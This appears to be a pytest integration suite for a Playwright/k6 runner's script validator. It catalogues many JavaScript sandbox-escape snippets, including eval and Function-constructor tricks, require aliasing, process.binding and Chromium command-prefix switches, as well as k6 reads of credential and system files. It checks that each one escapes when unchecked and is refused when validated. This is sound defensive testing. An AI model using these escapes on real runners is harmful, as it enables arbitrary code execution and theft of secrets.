"""Issue 10, item 3: the ways round the runner's script validation that passed and ran, and the ones
found since, each refused by the real validator (runner-image/validate.mjs with TypeScript's parser,
and validate.py's decision), with a message that names the line, what was refused and what to do
instead.

Each case is the exact snippet, in a realistic spec. Where the snippet can run without a browser,
``test_the_snippet_escapes_when_nothing_checks_it`` first runs it in plain Node.js (CommonJS, as
Playwright loads a spec) and sees it start a program: the case is a real way out, not a made-up one.
The end-to-end tests at the bottom run the real runner process (real Node, Playwright, k6, and an S3
server) and show the run ending ``validation``, with the message, and no program started.

Validation is a lint; the pod is the boundary (docs/security.md): these tests show the easy ways
out are closed, not that no way is left.
"""

from __future__ import annotations

import contextlib
import json
import os
import signal
import subprocess
import time
from dataclasses import dataclass
from pathlib import Path

import pytest

from supercheck_contract import ExitCode, FailureClass
from supercheck_runner import validate
from supercheck_runner.settings import DEFAULT_ALLOWED_MODULES
from supercheck_runner.validate import ValidationError
from tests.runner.conftest import NODE_MODULES, REPO, make_runner, moto_with_buckets

VALIDATOR = REPO / "runner-image" / "validate.mjs"

pytestmark = pytest.mark.integration


@dataclass(frozen=True)
class Bypass:
    name: str
    snippet: str  # MARKER: a JSON string, the path of a file the escape would create
    words: str  # what the refusal says
    top_level: bool = False  # the snippet is placed at the file's top level, not in a test
    runs_in_node: bool = True  # plain Node.js runs it and starts a program (checked below)
    # ...and so does Playwright's loader, which compiles every spec in strict mode (where `with` is a
    # syntax error and `.caller` throws: those are refused as they are in plain Node.js, all the same)
    strict: bool = True


CMD = "'touch ' + MARKER"
CP = "getBuiltinModule('child_process')"

# The issue's list: "Validation bypasses that passed and ran".
FROM_THE_ISSUE = [
    Bypass("process.getBuiltinModule", f"process.{CP}.execSync({CMD});", "process.getBuiltinModule loads any"),
    Bypass("require aliased", f"const r = require; r('child_process').execSync({CMD});",
           "require is allowed only as require('module')"),
    Bypass("require.call", f"require.call(null, 'child_process').execSync({CMD});",
           "require is allowed only as require('module')"),
    Bypass("indirect eval", f"(0, eval)(\"process.{CP}\").execSync({CMD});", "eval() runs code built from a string"),
    Bypass("globalThis.eval", f"globalThis.eval(\"process.{CP}\").execSync({CMD});",
           "globalThis.eval is eval: eval() runs code"),
    Bypass("process['binding']",
           "process['binding']('spawn_sync').spawn({ file: '/bin/sh', args: ['/bin/sh', '-c', 'touch ' + MARKER], "
           "envPairs: [], stdio: [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }] });",
           "process.binding reaches Node.js internals"),
    Bypass("module['require']", f"module['require']('child_process').execSync({CMD});",
           "module.require reaches the module loader"),
    Bypass("Function through the prototype",
           f"Object.getPrototypeOf(function () {{}}).constructor('return process')().{CP}.execSync({CMD});",
           ".constructor reaches the constructors of functions"),
    Bypass("AsyncFunction constructor",
           f"(await Object.getPrototypeOf(async function () {{}}).constructor('return process')()).{CP}"
           f".execSync({CMD});", ".constructor reaches the constructors of functions"),
    Bypass("Reflect.construct(Function)",
           f"Reflect.construct(Function, ['return process'])().{CP}.execSync({CMD});",
           "Reflect reaches members and constructors by computed names"),
    Bypass("chromium.launch executablePath",
           "await chromium.launch({ executablePath: '/bin/sh', ignoreDefaultArgs: true, "
           "args: ['-c', 'touch ' + MARKER], timeout: 3000 }).catch(() => {});",
           "executablePath starts the program it names instead of the runner's browser"),
]

# Found by trying as an attacker would, after the issue's list was closed.
FOUND_SINCE = [
    Bypass("import() of a computed name", "await import(`${'child'}_process`);", "import() with a computed module name",
           runs_in_node=False),  # the import itself is the escape; nothing runs by it alone
    Bypass("new Function", f"new Function('return process')().{CP}.execSync({CMD});",
           "Function() and new Function() build code from a string"),
    Bypass("vm", "require('vm').runInThisContext(\"process.getBuiltinModule('child_process')\")"
                 f".execSync({CMD});", "import of 'vm' is not allowed"),
    Bypass("worker_threads",
           "new (require('worker_threads').Worker)(\"require('child_process').execSync('touch ' + "
           "require('worker_threads').workerData)\", { eval: true, workerData: MARKER });",
           "import of 'worker_threads' is not allowed", runs_in_node=False),  # the worker outlives the check
    Bypass("process.dlopen", "process.dlopen({ exports: {} }, './tests/payload.so');",
           "process.dlopen loads native code", runs_in_node=False),  # needs a shared library beside the script
    Bypass("module.constructor._load", f"module.constructor._load('child_process').execSync({CMD});",
           "module.constructor reaches the module loader"),
    Bypass("process.mainModule.require", f"process.mainModule.require('child_process').execSync({CMD});",
           "process.mainModule reaches the module loader"),
    Bypass("require.main.require", f"require.main.require('child_process').execSync({CMD});",
           "require is allowed only as require('module')"),
    Bypass("globalThis['ev' + 'al']", f"globalThis['ev' + 'al'](\"process.{CP}\").execSync({CMD});",
           "globalThis[...] with a computed name"),
    Bypass("process[computed]", f"const k = 'getBuiltin' + 'Module'; process[k]('child_process').execSync({CMD});",
           "process[...] with a computed name cannot be checked"),
    Bypass("process passed on", f"const p = process; p.{CP}.execSync({CMD});", "process passed around as a value"),
    Bypass("unicode escape in an identifier", f"\\u0065val(\"process.{CP}\").execSync({CMD});",
           "eval() runs code built from a string"),
    Bypass("escaped string key", f"process['\\x67etBuiltinModule']('child_process').execSync({CMD});",
           "process.getBuiltinModule loads any"),
    Bypass("template literal key", f"globalThis[`eval`](\"process.{CP}\").execSync({CMD});",
           "globalThis.eval is eval"),
    Bypass("destructured constructor", f"const {{ constructor: F }} = () => {{}}; F('return process')().{CP}"
                                       f".execSync({CMD});", ".constructor reaches the constructors of functions"),
    Bypass("destructured from process", f"const {{ getBuiltinModule: g }} = process; g('child_process')"
                                        f".execSync({CMD});", "process.getBuiltinModule loads any"),
    Bypass("destructured from globalThis", f"const {{ eval: e }} = globalThis; e(\"process.{CP}\").execSync({CMD});",
           "destructuring eval out of globalThis"),
    Bypass("Function.prototype.call.call", f"Function.prototype.call.call(require, null, 'child_process')"
                                           f".execSync({CMD});", "Function() and new Function() build code"),
    Bypass("'constructor' as a string", f"Object.getOwnPropertyDescriptor(Object.getPrototypeOf(() => {{}}), "
                                        f"'constructor').value('return process')().{CP}.execSync({CMD});",
           "the string 'constructor' names the constructors of functions"),
    Bypass("Reflect.get(process)", f"Reflect.get(process, 'getBuiltinModule')('child_process').execSync({CMD});",
           "Reflect reaches members"),
    Bypass("the module wrapper's arguments", f"arguments[1]('child_process').execSync({CMD});",
           "arguments at the top level of a file are the module loader's", top_level=True),
    Bypass("a function's caller", f"function f() {{ return f.caller; }}\n"
                                  f"f().arguments[1]('child_process').execSync({CMD});",
           ".caller reaches the functions on the call stack", top_level=True, strict=False),
    Bypass("prepareStackTrace", "Error.prepareStackTrace = (e, frames) => frames.map((f) => f.getFunction());",
           ".prepareStackTrace reaches the functions on the call stack", runs_in_node=False),  # needs a sloppy frame
    Bypass("with (process)", f"with (process) {{ {CP}.execSync({CMD}); }}", "with hides which names",
           top_level=True, strict=False),
    Bypass("(require)(computed)", f"const n = 'child' + '_process'; (require)(n).execSync({CMD});",
           "require() with a computed module name"),
    Bypass("globalThis.process", f"globalThis.process.{CP}.execSync({CMD});", "globalThis.process.getBuiltinModule"),
    Bypass("setTimeout with a string", "setTimeout(\"require('child_process').execSync('touch x')\", 0);",
           "setTimeout() with a string runs code built from a string",
           runs_in_node=False),  # Node refuses a string (the browser would eval it): refused as a mistake
    Bypass("process.env changed", "process.env.LD_PRELOAD = './tests/payload.so';",
           "changing process.env is not allowed", runs_in_node=False),  # the browser it starts would load it
    Bypass("launchOptions with executablePath", "test.use({ launchOptions: { executablePath: '/bin/sh' } });",
           "executablePath starts the program", top_level=True, runs_in_node=False),
    Bypass("launch options by reference", "const options = { headless: true }; await chromium.launch(options);",
           "the launch options must be written out", runs_in_node=False),
    Bypass("renderer command prefix",
           "await chromium.launch({ args: ['--renderer-cmd-prefix=/usr/bin/touch ' + MARKER] });",
           "the browser switch '--renderer-cmd-prefix' makes the browser start another program;",
           runs_in_node=False),
    Bypass("utility command prefix", "await chromium.launch({ args: ['--utility-cmd-prefix=/bin/sh'] });",
           "the browser switch '--utility-cmd-prefix'", runs_in_node=False),
    Bypass("gpu launcher", "await chromium.launch({ args: ['--no-zygote', '--gpu-launcher=/bin/sh'] });",
           "the browser switch '--gpu-launcher'", runs_in_node=False),
    Bypass("browser subprocess path", "await chromium.launch({ args: ['--browser-subprocess-path=/bin/sh'] });",
           "the browser switch '--browser-subprocess-path'", runs_in_node=False),
    Bypass("remote debugging port", "await chromium.launch({ args: ['--remote-debugging-port=9222'] });",
           "opens the browser's automation port to the network", runs_in_node=False),
    Bypass("browser env", "await chromium.launch({ env: { LD_PRELOAD: './tests/payload.so' } });",
           "env sets the browser's environment", runs_in_node=False),
    Bypass("args computed", "const extra = ['--gpu-', 'launcher=/bin/sh'].join(''); "
                            "await chromium.launch({ args: [extra] });", "args must be written out as strings",
           runs_in_node=False),
    Bypass("launchServer", "const server = await chromium.launchServer();", ".launchServer starts a browser server",
           runs_in_node=False),
    Bypass("connectOverCDP", "const far = await chromium.connectOverCDP('http://10.0.0.9:9222');",
           ".connectOverCDP drives a browser outside this pod", runs_in_node=False),
    Bypass("connect", "const far = await chromium.connect('ws://10.0.0.9:3000/');",
           "chromium.connect drives a browser outside this pod", runs_in_node=False),
    Bypass("connectOptions", "test.use({ connectOptions: { wsEndpoint: 'ws://10.0.0.9:3000/' } });",
           "connectOptions drives a browser outside this pod", top_level=True, runs_in_node=False),
    Bypass("_electron", "const { _electron: electron } = require('@playwright/test'); "
                        "const app = await electron.launch({ args: ['main.js'] });",
           "_electron starts the Electron program", runs_in_node=False),
    Bypass("prototype polluted", "Object.prototype.ignoreDefaultArgs = true;",
           "ignoreDefaultArgs drops the command line", runs_in_node=False),
    Bypass("prototype polluted by defineProperty",
           "Object.defineProperty(Array.prototype, 'x', { get() { return 1; } });",
           "changing Array.prototype changes code the runner and Playwright share", runs_in_node=False),
    Bypass("__proto__", "({}).__proto__.headless = false;", ".__proto__ reaches and changes prototypes",
           runs_in_node=False),
    Bypass("computed launch option", "await chromium.launch({ ['executable' + 'Path']: '/bin/sh' });",
           "an option with a computed name cannot be checked", runs_in_node=False),
    Bypass("browser type passed on", "const o = {}; o['executable' + 'Path'] = '/bin/sh'; "
                                     "await chromium.launch.call(chromium, o);", "chromium passed on cannot be checked",
           runs_in_node=False),
    Bypass("browser type by a computed name", "const how = 'launch' + 'Server'; await chromium[how]();",
           "chromium[...] with a computed name cannot be checked", runs_in_node=False),
    Bypass("Playwright's protocol", "await page._channel.evaluateExpression({ expression: '1' });",
           "._channel reaches Playwright's internal protocol", runs_in_node=False),
    Bypass("Playwright's command line", "require('@playwright/test/cli');",
           "import of '@playwright/test/cli' is not allowed (it is Playwright's command line", runs_in_node=False),
    Bypass("process.argv changed", "process.argv.push('install');", "process.argv is not among the members",
           runs_in_node=False),  # for the command line above
]

BYPASSES = FROM_THE_ISSUE + FOUND_SINCE


def spec_with(bypass: Bypass, marker: str = "/tmp/never") -> tuple[str, int]:
    """A realistic spec with the snippet in it, and the line the snippet is on."""
    head = (
        "import { test, expect, chromium } from '@playwright/test';\n"
        f"const MARKER = {json.dumps(marker)};\n"
    )
    if bypass.top_level:
        body = f"{bypass.snippet}\n\ntest('checkout', async ({{ page }}) => {{\n  await page.goto('/');\n}});\n"
        return head + body, 3
    body = (
        "\n"
        "test('checkout', async ({ page }) => {\n"
        "  await page.goto(process.env.TARGET_URL ?? '/');\n"
        f"  {bypass.snippet}\n"
        "  await expect(page.getByRole('heading')).toHaveText('Welcome');\n"
        "});\n"
    )
    return head + body, 6


def refusal(tmp_path: Path, source: str, name: str = "checkout.spec.ts") -> str:
    (tmp_path / name).write_text(source)
    with pytest.raises(ValidationError) as err:
        validate.validate_playwright(tmp_path, [name], name, node="node", validator=VALIDATOR,
                                     node_modules=NODE_MODULES, allowed=DEFAULT_ALLOWED_MODULES, timeout=60)
    return str(err.value)


@pytest.mark.parametrize("bypass", BYPASSES, ids=[b.name for b in BYPASSES])
def test_the_validator_refuses_it_naming_the_line_and_why(tmp_path, bypass):
    source, line = spec_with(bypass)
    message = refusal(tmp_path, source)
    assert f"line {line}," in message, message
    assert bypass.words in message, message


@pytest.mark.parametrize("bypass", [b for b in BYPASSES if b.runs_in_node], ids=lambda b: b.name)
def test_the_snippet_escapes_when_nothing_checks_it(tmp_path, bypass):
    """Without validation the snippet starts a program: plain Node.js, a CommonJS file as Playwright
    loads a spec (require, module and the wrapper's arguments are there), @playwright/test on NODE_PATH."""
    marker = tmp_path / "escaped"
    prelude = (f"const MARKER = {json.dumps(str(marker))};\n"
               "const { chromium } = require('@playwright/test');\n")
    if bypass.top_level:
        code = prelude + bypass.snippet + "\n"
    else:
        code = prelude + f"(async () => {{\n{bypass.snippet}\n}})().catch((e) => {{ console.error(e); }});\n"
    script = tmp_path / "escape.cjs"
    script.write_text(code)
    out = subprocess.run(["node", str(script)], capture_output=True, text=True, timeout=60, cwd=tmp_path,
                         env={"NODE_PATH": str(NODE_MODULES), "PATH": "/usr/local/bin:/usr/bin:/bin"})
    assert marker.exists(), f"the snippet did not escape: {out.stderr[-800:]}"


@pytest.mark.timeout(300)
def test_the_snippets_escape_under_playwrights_own_loader(tmp_path):
    """The issue's "passed and ran": each snippet, in a spec of its own, run by the Playwright test
    runner the runner uses (its loader and its workers, no validation), starts a program. The
    specs need no browser: the tests take no page."""
    cases = [b for b in BYPASSES if b.runs_in_node and b.strict]
    for i, bypass in enumerate(cases):
        marker = tmp_path / f"escaped-{i}"
        top = bypass.snippet if bypass.top_level else ""
        body = "" if bypass.top_level else bypass.snippet
        (tmp_path / f"case{i}.spec.ts").write_text(
            "import { test, chromium } from '@playwright/test';\n"
            f"const MARKER = {json.dumps(str(marker))};\n{top}\n"
            f"test({json.dumps(bypass.name)}, async () => {{\n  {body}\n}});\n")
    (tmp_path / "playwright.config.mjs").write_text("export default { workers: 2, timeout: 30000 };\n")
    (tmp_path / "node_modules").symlink_to(NODE_MODULES)
    out = subprocess.run(["node", str(NODE_MODULES / "@playwright" / "test" / "cli.js"), "test", "--reporter=line"],
                         cwd=tmp_path, capture_output=True, text=True, timeout=240,
                         env={"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(tmp_path)})
    missed = [b.name for i, b in enumerate(cases) if not (tmp_path / f"escaped-{i}").exists()]
    assert not missed, f"{missed} did not escape under Playwright: {out.stdout[-2000:]}"


CHROMIUM = "/usr/lib/chromium/chromium" if Path("/usr/lib/chromium/chromium").exists() else "chromium"


@pytest.mark.timeout(120)
@pytest.mark.parametrize("switch", ["--renderer-cmd-prefix=/bin/sh -c touch${IFS}MARKER",
                                    "--utility-cmd-prefix=/bin/sh -c touch${IFS}MARKER",
                                    "--browser-subprocess-path=PROGRAM"])
def test_the_switches_start_a_program_in_real_chromium(tmp_path, switch):
    """The switches refused above are real ways out: Chromium starts the program they name.
    (executablePath here only points Playwright at the system's Chromium, as the runner does.)"""
    marker = tmp_path / "escaped"
    program = tmp_path / "program.sh"  # a file of the suite, or one saved from a download, in a real attack
    program.write_text(f"#!/bin/sh\ntouch {marker}\n")
    program.chmod(0o755)
    arg = switch.replace("MARKER", str(marker)).replace("PROGRAM", str(program))
    script = tmp_path / "launch.cjs"
    script.write_text(
        "const { chromium } = require('@playwright/test');\n"
        "(async () => {\n"
        f"  const browser = await chromium.launch({{ executablePath: {json.dumps(CHROMIUM)}, "
        f"args: [{json.dumps(arg)}], timeout: 20000 }});\n"
        "  await browser.newPage().catch(() => {});\n"
        "  await browser.close();\n"
        "})().catch(() => {});\n")
    # Its own session, so that whatever Chromium leaves behind (a renderer that never answered) goes too.
    proc = subprocess.Popen(["node", str(script)], cwd=tmp_path, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL, start_new_session=True,
                            env={"NODE_PATH": str(NODE_MODULES), "PATH": "/usr/local/bin:/usr/bin:/bin",
                                 "HOME": str(tmp_path)})
    try:
        deadline = time.monotonic() + 60
        while proc.poll() is None and not marker.exists() and time.monotonic() < deadline:
            time.sleep(0.2)
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()
    assert marker.exists(), f"Chromium did not start the program of {switch.split('=')[0]}"


# --- lint, not a straitjacket: what tests do stays allowed ----------------------------------------

ALLOWED = """
import { test, expect, chromium } from '@playwright/test';
import crypto from 'node:crypto';

const base = process.env.TARGET_URL ?? 'http://127.0.0.1';
const { ...copy } = { ...process.env };
const names = Object.keys(process.env);
test.use({ launchOptions: { slowMo: 50, args: ['--lang=de-DE', '--window-size=1280,800'] } });

class Cart {
  constructor(public items: string[] = []) {}
}

function total(...prices: number[]) {
  return Array.prototype.slice.call(arguments).reduce((a: number, b: number) => a + b, 0);
}

test('constructor', async ({ page }, testInfo) => {
  await page.goto(base);
  const cart = new Cart();
  expect(cart.constructor.name).toBe('Cart');
  expect(cart instanceof Cart).toBe(true);
  expect(process.platform).toBeTruthy();
  globalThis.shared = { id: crypto.randomUUID() };
  setTimeout(() => {}, 10);
  const browser = await chromium.launch({ headless: true, args: ['--lang=en-GB'] });
  expect(chromium.executablePath()).toBeTruthy();
  await browser.close();
  expect(total(1, 2)).toBe(3);
  expect(names.length + Object.keys(copy).length).toBeGreaterThan(0);
  await page.evaluate(() => window.scrollTo(0, document.body.scrollHeight));
  await testInfo.attach('note', { body: 'x' });
});

module.exports = { Cart };
"""


def test_what_tests_do_stays_allowed(tmp_path):
    (tmp_path / "allowed.spec.ts").write_text(ALLOWED)
    validate.validate_playwright(tmp_path, ["allowed.spec.ts"], "allowed.spec.ts", node="node", validator=VALIDATOR,
                                 node_modules=NODE_MODULES, allowed=DEFAULT_ALLOWED_MODULES, timeout=60)


# --- a script nested too deeply for the parser ----------------------------------------------------


@pytest.mark.parametrize("opening, closing", [("[", "]"), ("(", ")"), ("a(", ")"), ("{a:", "}")])
def test_two_kilobytes_of_nested_brackets_are_a_validation_error(tmp_path, opening, closing):
    depth = 2048 // (len(opening) + len(closing))
    source = "import { test } from '@playwright/test';\nconst x = " + opening * depth + "1" + closing * depth + ";\n"
    message = refusal(tmp_path, source)
    assert message.startswith("line 2, column "), message
    assert "nested more than 256 levels deep" in message and "flatten it" in message


def test_deep_nesting_without_brackets_is_a_validation_error_too(tmp_path):
    # Unary operators nest the parser as brackets do, but no bracket counts them: the parser's own
    # stack overflow is caught and reported as the script's fault.
    source = "import { test } from '@playwright/test';\nconst x = " + "!" * 20000 + "1;\n"
    message = refusal(tmp_path, source)
    assert "nests too deeply to be checked (the parser ran out of stack)" in message, message


# --- k6: the files a script reads stay in its folder --------------------------------------------

K6_READS = [
    ("const env = open('/proc/self/environ');", "open('/proc/self/environ') reads an absolute path"),
    ("const token = open('/var/run/secrets/kubernetes.io/serviceaccount/token');", "reads an absolute path"),
    ("const up = open('../../../../proc/1/environ');", "reads a path that climbs out with '..'"),
    ("const f = open('file:///etc/passwd');", "reads an absolute path"),
    ("const c = open(__ENV.FILE);", "open() with a computed path cannot be checked"),
    ("const t = open(`${__ENV.DIR}/users.json`);", "open() with a computed path cannot be checked"),
    ("import { open as fsOpen } from 'k6/experimental/fs';\nconst file = await fsOpen('/proc/self/environ');",
     "open('/proc/self/environ') reads an absolute path"),
    ("import * as fs from 'k6/experimental/fs';\nconst file = await fs.open('/proc/self/environ');",
     "open('/proc/self/environ') reads an absolute path"),
    ("import grpc from 'k6/net/grpc';\nconst client = new grpc.Client();\nclient.load(['/etc'], 'x.proto');",
     "load('/etc') reads an absolute path"),
    ("import secrets from '/etc/secrets/lib.js';", "import of '/etc/secrets/lib.js' is an absolute path"),
]


@pytest.mark.parametrize("snippet, words", K6_READS, ids=[w for _, w in K6_READS])
def test_k6_file_reads_outside_the_suite_are_refused(tmp_path, snippet, words):
    script = tmp_path / "script.js"
    script.write_text(f"import http from 'k6/http';\n{snippet}\nexport default function () {{ http.get('x'); }}\n")
    facts = validate.script_facts(script, node="node", validator=VALIDATOR, node_modules=NODE_MODULES, timeout=60)
    issues = validate.k6_issues(facts)
    assert issues, facts
    text = validate.format_issues(issues)
    assert words in text, text
    assert "spec.script.configMapRef.files" in text or "relative path" in text


@pytest.mark.parametrize("path", ["ABSOLUTE", "../outside/secret.txt"])
def test_k6_reads_files_outside_its_suite_when_nothing_checks_it(tmp_path, path):
    """Without the check, k6 itself (k6 inspect, which the runner runs to validate) reads any file the
    pod's user can: a mounted token, a Secret volume of another container, the runner's own files.
    (procfs files such as /proc/self/environ fail in k6 with an I/O error; they are refused all the same.)"""
    from supercheck_runner.settings import RunnerSettings

    secret = tmp_path / "outside" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text("top-secret-value\n")
    suite = tmp_path / "suite"
    suite.mkdir()
    script = suite / "script.js"
    named = str(secret) if path == "ABSOLUTE" else path
    script.write_text(f"const s = open({json.dumps(named)});\nthrow new Error('read: ' + s.trim());\n"
                      "export default function () {}\n")
    out = subprocess.run([RunnerSettings.from_env({}).k6, "inspect", str(script)], capture_output=True, text=True,
                         timeout=60, cwd=suite, env={"PATH": "/usr/bin:/bin"})
    assert "read: top-secret-value" in out.stdout + out.stderr, out.stderr[-500:]
    facts = validate.script_facts(script, node="node", validator=VALIDATOR, node_modules=NODE_MODULES, timeout=60)
    assert "outside the suite's folder" in validate.format_issues(validate.k6_issues(facts, "script.js"))


def test_k6_reads_of_the_suites_own_files_pass(tmp_path):
    script = tmp_path / "script.js"
    script.write_text("import http from 'k6/http';\nimport { check } from './lib/check.js';\n"
                      "const users = JSON.parse(open('./data/users.json'));\nconst raw = open('data.bin', 'b');\n"
                      "const popup = () => page.evaluate(() => window.open('/help'));\n"
                      "export default function () { http.get(users[0].url); }\n")
    facts = validate.script_facts(script, node="node", validator=VALIDATOR, node_modules=NODE_MODULES, timeout=60)
    assert validate.k6_issues(facts) == []


# --- end to end: the real runner process ----------------------------------------------------------


@pytest.fixture(scope="module")
def s3_endpoint():
    """moto's S3 server, as tests/runner/conftest.py starts it (its fixtures are not visible here)."""
    with moto_with_buckets() as endpoint:
        yield endpoint


@pytest.fixture
def run_runner(tmp_path, s3_endpoint):
    return make_runner(tmp_path, s3_endpoint)


def assert_refused_before_running(run, marker: Path, words: str):
    assert run.exit_code == ExitCode.VALIDATION, run.output
    assert run.result.failureClass == FailureClass.VALIDATION
    assert run.result.message.startswith("invalid script: "), run.result.message
    assert words in run.result.message, run.result.message
    assert "running Playwright" not in run.output and "running k6" not in run.output
    assert not marker.exists(), "a program ran"


@pytest.mark.timeout(300)
@pytest.mark.parametrize("bypass", [FROM_THE_ISSUE[0], FROM_THE_ISSUE[10]], ids=lambda b: b.name)
def test_the_runner_ends_the_run_as_validation_and_starts_nothing(run_runner, tmp_path, bypass):
    marker = tmp_path / "escaped"
    source, line = spec_with(bypass, str(marker))
    run = run_runner("playwright", source, timeout_seconds=60)
    assert_refused_before_running(run, marker, bypass.words)
    assert f"line {line}," in run.result.message


@pytest.mark.timeout(300)
def test_a_deeply_nested_script_ends_the_run_as_validation_not_infrastructure(run_runner, tmp_path):
    marker = tmp_path / "escaped"
    source = ("import { test } from '@playwright/test';\n"
              "const x = " + "[" * 1024 + "]" * 1024 + ";\n"
              f"test('x', async () => {{ require('child_process').execSync('touch {marker}'); }});\n")
    run = run_runner("playwright", source, timeout_seconds=60)
    assert_refused_before_running(run, marker, "nested more than 256 levels deep")
    assert run.result.failureClass != FailureClass.INFRASTRUCTURE  # which the operator would retry 3 times


@pytest.mark.timeout(300)
def test_a_k6_script_reading_a_file_outside_its_suite_is_refused_before_k6_runs(run_runner, tmp_path):
    # k6 inspect runs the init code, so the refusal comes from the static check, before k6 starts
    # (a k6 script cannot create a marker file: the run's output and result say it never ran).
    secret = tmp_path / "secret.txt"
    secret.write_text("top-secret-value\n")
    script = ("import http from 'k6/http';\n"
              f"const stolen = open({json.dumps(str(secret))});\n"
              "export default function () { http.post('http://127.0.0.1:9/', stolen); }\n")
    run = run_runner("k6", script, timeout_seconds=60)
    assert_refused_before_running(run, tmp_path / "no-marker-for-k6", f"open('{secret}') reads an absolute path")
    assert "line 2," in run.result.message and "spec.script.configMapRef.files" in run.result.message
    assert "top-secret-value" not in run.output + run.termination_message


# --- on the local control plane (written for the lead's cluster run) --------------------------------


@pytest.fixture
def quick_operator(operator_ctl):
    operator_ctl.start(SUPERCHECK_RETRY_BACKOFF_SECONDS="0.5")
    return operator_ctl


def terminal_status(custom_objects, namespace: str, name: str, timeout: float = 180) -> dict:
    from tests.operator.operator_kit import TERMINAL, get_run, phase, wait_for

    run = wait_for(lambda: (r := get_run(custom_objects, namespace, name)) and phase(r) in TERMINAL and r,
                   timeout, what=f"{name} terminal")
    return run["status"]


@pytest.mark.cluster
@pytest.mark.timeout(300)
def test_a_testrun_with_a_bypass_ends_error_validation_on_its_first_attempt(quick_operator, namespace,
                                                                            custom_objects):
    from tests.operator.operator_kit import create, make_run

    source, line = spec_with(FROM_THE_ISSUE[0], "/tmp/supercheck-escaped")
    create(custom_objects, namespace, make_run("bypass", source, type="playwright"))
    st = terminal_status(custom_objects, namespace, "bypass")
    assert (st["phase"], st["reason"], st["failureClass"], st["attempts"]) == (
        "Error", "InvalidScript", "validation", 1), st
    assert f"line {line}," in st["message"] and "process.getBuiltinModule" in st["message"], st["message"]


@pytest.mark.cluster
@pytest.mark.timeout(300)
def test_a_deeply_nested_testrun_is_not_retried_as_infrastructure(quick_operator, namespace, custom_objects):
    from tests.operator.operator_kit import create, make_run

    script = "export default function () {\n  const x = " + "[" * 1024 + "]" * 1024 + ";\n}\n"
    create(custom_objects, namespace, make_run("deep", script))  # k6: validate.mjs reads it first
    st = terminal_status(custom_objects, namespace, "deep")
    assert (st["phase"], st["failureClass"], st["attempts"]) == ("Error", "validation", 1), st
    assert "nested more than 256 levels deep" in st["message"], st["message"]
